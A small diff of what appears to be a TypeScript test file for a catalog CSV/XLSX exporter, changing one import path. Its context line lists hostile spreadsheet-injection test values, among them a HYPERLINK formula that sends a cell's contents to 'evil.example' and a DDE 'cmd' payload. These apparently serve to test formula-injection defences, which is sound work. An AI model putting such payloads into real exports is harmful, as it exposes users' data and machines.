@@ -9,7 +9,7 @@ import { catalogCsv, catalogXlsx } from '../../src/catalog/catalog.export';
 import { parseCatalogCsv, parseCatalogXlsx } from '../../src/catalog/catalog.parser';
 import type { Catalog } from '../../src/catalog/catalog.types';
 import { diffCatalog, planCatalog } from '../../src/catalog/catalog.validator';
-import { csvField, tokenizeCsv } from '../../src/task-breakdown/task-breakdown.csv';
+import { csvField, tokenizeCsv } from '../../src/spreadsheet';
 import { initialState } from '../../workflows/indicator-task/indicator-task.lifecycle';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '=1+1'];
